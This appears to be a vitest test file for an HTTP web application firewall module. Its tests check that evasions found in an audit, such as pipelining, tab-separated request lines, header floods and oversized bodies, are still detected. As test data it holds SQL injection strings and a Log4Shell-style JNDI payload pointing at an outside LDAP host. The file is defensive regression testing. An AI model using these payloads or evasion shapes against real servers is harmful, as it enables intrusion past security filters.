// Evasions found by an audit of http_waf:
// ways to get a request past the module without it being inspected. Each
// test sends the audit's shape of request and expects the attack to be seen,
// or, where the module cannot read it, an anomaly instead of the flow being
// let go.
import { beforeAll, describe, expect, it } from 'vitest';
import { Verdict } from '../../../host/verdict.js';
import { SID, bytesOf, request, run, streamItem, waf } from './waf.js';

beforeAll(async () => { await waf(); }, 180_000);

const { MALFORMED_REQUEST, BODY_PAST_DEPTH } = SID;

const ATTACK_QUERY = '/item?id=1%27%20or%201=1--%20';
const JNDI = '${jndi:ldap://198.18.0.66/a}';
const HEADERS = 'Host: shop.example\r\nUser-Agent: curl/8.5.0\r\nAccept: */*\r\n';
const OK = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok';

let flow = 1000;
const sids = (r: { alerts: { sigId: number }[] }) => r.alerts.map((a) => a.sigId).sort();

/** The whole client stream in one packet. */
async function oneStream(text: string, config?: unknown) {
  return run(await waf(config), [streamItem(flow++, 0, bytesOf(text))]);
}

describe('http_waf keep-alive (F1)', () => {
  it('inspects the fifth request of a persistent connection after four clean exchanges', async () => {
    const inst = await waf();
    const id = flow++;
    let client = '';
    let server = '';
    const verdicts: number[] = [];
    for (let k = 0; k < 4; k++) {
      client += request('GET', `/page${k}`);
      server += OK;
      verdicts.push(...run(inst, [streamItem(id, 0, bytesOf(client)), streamItem(id, 1, bytesOf(server))]).verdicts);
    }
    expect(verdicts).not.toContain(Verdict.ALLOW_FLOW);
    client += request('GET', ATTACK_QUERY, { 'X-Api-Version': JNDI });
    const r = run(inst, [streamItem(id, 0, bytesOf(client))]);
    expect(sids(r)).toEqual([SID.SQLI, SID.JNDI]);
  });

  it('still lets go after allow_after clean exchanges when configured to', async () => {
    const inst = await waf({ allow_after: 1 });
    const id = flow++;
    const r = run(inst, [streamItem(id, 0, bytesOf(request('GET', '/a'))), streamItem(id, 1, bytesOf(OK))]);
    expect(r.verdicts).toEqual([Verdict.CONTINUE, Verdict.ALLOW_FLOW]);
  });
});

describe('http_waf request lines that lenient servers accept (F3)', () => {
  const lines: [string, string][] = [
    ['HTAB separators', `GET\t${ATTACK_QUERY}\tHTTP/1.1`],
    ['several spaces', `GET   ${ATTACK_QUERY}  HTTP/1.1`],
    ['trailing whitespace before CRLF', `GET ${ATTACK_QUERY} HTTP/1.1 \t`],
    ['a 26-character method', `PROPFINDPROPFINDPROPFINDXY ${ATTACK_QUERY} HTTP/1.1`],
  ];
  for (const [name, line] of lines) {
    it(`parses a request line with ${name}`, async () => {
      const r = await oneStream(`${line}\r\n${HEADERS}X-Api-Version: ${JNDI}\r\n\r\n`);
      expect(sids(r)).toEqual([SID.SQLI, SID.JNDI]);
      expect(r.verdicts).toEqual([Verdict.CONTINUE]);
    });
  }

  it('parses a tab-separated request that follows an ordinary one', async () => {
    const r = await oneStream(request('GET', '/') + `GET\t${ATTACK_QUERY}\tHTTP/1.1\r\n${HEADERS}\r\n`);
    expect(sids(r)).toEqual([SID.SQLI]);
  });

  it('reports a request line it cannot read and inspects the requests after it, without letting the flow go', async () => {
    const odd = `${'X'.repeat(300)} / HTTP/1.1\r\n${HEADERS}\r\n`;
    const r = await oneStream(odd + request('GET', ATTACK_QUERY));
    expect(sids(r)).toEqual([SID.SQLI, MALFORMED_REQUEST]);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
  });

  it('blocks an unreadable request line in block mode', async () => {
    const r = await oneStream(`GET\xa0${ATTACK_QUERY}\xa0HTTP/1.1\r\n${HEADERS}\r\n`, { mode: 'block' });
    expect(sids(r)).toEqual([MALFORMED_REQUEST]);
    expect(r.verdicts).toEqual([Verdict.BLOCK_FLOW]);
  });

  it('reads a request line split over packets before judging it', async () => {
    const inst = await waf();
    const id = flow++;
    const text = `${'X'.repeat(100)} / HTTP/1.1\r\n${HEADERS}\r\n` + request('GET', ATTACK_QUERY);
    const r1 = run(inst, [streamItem(id, 0, bytesOf(text.slice(0, 50)))]);
    expect(r1.verdicts).toEqual([Verdict.CONTINUE]);
    const r2 = run(inst, [streamItem(id, 0, bytesOf(text))]);
    expect(sids(r2)).toEqual([SID.SQLI, MALFORMED_REQUEST]);
  });

  it('after a protocol switch (101) lets the flow go as before', async () => {
    const inst = await waf();
    const id = flow++;
    const up = request('GET', '/chat', { Upgrade: 'websocket', Connection: 'Upgrade' });
    run(inst, [streamItem(id, 0, bytesOf(up)), streamItem(id, 1, bytesOf('HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n'))]);
    const frames = new Uint8Array([...bytesOf(up), 0x81, 0x85, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    const r = run(inst, [streamItem(id, 0, frames)]);
    expect(r.alerts).toEqual([]);
    expect(r.verdicts).toEqual([Verdict.ALLOW_FLOW]);
  });
});

describe('http_waf pipelining (F2)', () => {
  const pipeline = (n: number) => Array.from({ length: n }, (_, k) => request('GET', `/p${k}`)).join('') + request('GET', ATTACK_QUERY, { 'X-Api-Version': JNDI });

  it('inspects the 41st of 40 pipelined requests in one segment', async () => {
    const r = await oneStream(pipeline(40));
    expect(sids(r)).toEqual([SID.SQLI, SID.JNDI]);
  });

  it('blocks on the packet that carries it in block mode', async () => {
    const r = await oneStream(pipeline(40), { mode: 'block' });
    expect(r.verdicts).toEqual([Verdict.BLOCK_FLOW]);
  });
});

describe('http_waf pipelining past the per-packet limit (F2)', () => {
  it('reports requests left for later, blocks in block mode, and inspects them with the next bytes in alert mode', async () => {
    const many = Array.from({ length: 1100 }, () => 'GET / HTTP/1.1\r\nHost: a\r\n\r\n').join('') + request('GET', ATTACK_QUERY);
    expect((await oneStream(many, { mode: 'block' })).verdicts).toEqual([Verdict.BLOCK_FLOW]);
    const inst = await waf();
    const id = flow++;
    const first = run(inst, [streamItem(id, 0, bytesOf(many))]);
    expect(sids(first)).toEqual([SID.PIPELINE_PAST_LIMIT]);
    const next = run(inst, [streamItem(id, 0, bytesOf(many + request('GET', '/next')))]);
    expect(sids(next)).toEqual([SID.SQLI]);
  });
});

describe('http_waf limit actions config', () => {
  it('refuses actions other than block and alert', async () => {
    for (const key of ['head_action', 'body_action']) {
      const logs: string[] = [];
      await expect(waf({ [key]: 'drop' }, logs)).rejects.toThrow();
      expect(logs.join('\n')).toContain(key);
    }
  });
});

describe('http_waf header count (F4)', () => {
  const filler = Array.from({ length: 100 }, (_, k) => `X-Filler-${k}: v${k}`).join('\r\n') + '\r\n';

  it('checks headers after the hundredth', async () => {
    const r = await oneStream(`GET / HTTP/1.1\r\n${HEADERS}${filler}X-Api-Version: ${JNDI}\r\nCookie: uid=1%27%20or%201=1--%20\r\n\r\n`);
    expect(sids(r)).toEqual([SID.SQLI, SID.JNDI]);
  });

  it('frames the body by a Content-Length after the hundredth header', async () => {
    const body = "user=admin&pass=1'+or+1=1--+";
    const r = await oneStream(`POST /login HTTP/1.1\r\n${HEADERS}${filler}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: ${body.length}\r\n\r\n${body}`);
    expect(sids(r)).toEqual([SID.SQLI]);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
  });
});

describe('http_waf Content-Type media type (F9)', () => {
  it('reads a JSON body as JSON when a parameter mentions x-www-form-urlencoded', async () => {
    const body = '{"user":"admin\\u0027 or \\u00271\\u0027=\\u00271"}';
    const r = await oneStream(request('POST', '/api', { 'Content-Type': 'application/json; x=x-www-form-urlencoded' }, body));
    expect(sids(r)).toEqual([SID.SQLI]);
  });

  it('matches the media type case-insensitively with spaces around it', async () => {
    const r = await oneStream(request('POST', '/login', { 'Content-Type': ' Application/X-WWW-Form-Urlencoded ;charset=UTF-8' }, "pass=1'+or+1=1--+"));
    expect(sids(r)).toEqual([SID.SQLI]);
  });
});

describe('http_waf limits (F5, F6)', () => {
  it('reports a body longer than body_depth', async () => {
    const body = 'pad=' + 'a'.repeat(8200) + "&pass=1'+or+1=1--+";
    const r = await oneStream(request('POST', '/login', { 'Content-Type': 'application/x-www-form-urlencoded' }, body));
    expect(sids(r)).toEqual([BODY_PAST_DEPTH]);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
  });

  it('blocks a body longer than body_depth when body_action is block', async () => {
    const body = 'pad=' + 'a'.repeat(8200);
    const r = await oneStream(request('POST', '/up', { 'Content-Type': 'application/x-www-form-urlencoded' }, body), { mode: 'block', body_action: 'block' });
    expect(r.verdicts).toEqual([Verdict.BLOCK_FLOW]);
  });

  it('blocks a head longer than max_header_bytes in block mode by default', async () => {
    const r = await oneStream(request('GET', '/', { 'X-Pad': 'a'.repeat(8000), 'X-Pad2': 'a'.repeat(8500), 'X-Api-Version': JNDI }), { mode: 'block' });
    expect(r.alerts.map((a) => a.sigId)).toEqual([SID.HEAD_TOO_LONG]);
    expect(r.verdicts).toEqual([Verdict.BLOCK_FLOW]);
  });

  it('keeps inspecting the requests after a head longer than max_header_bytes', async () => {
    const r = await oneStream(request('GET', '/', { 'X-Pad': 'a'.repeat(17000) }) + request('GET', ATTACK_QUERY));
    expect(sids(r)).toEqual([SID.SQLI, SID.HEAD_TOO_LONG]);
    expect(r.verdicts).toEqual([Verdict.CONTINUE]);
  });
});
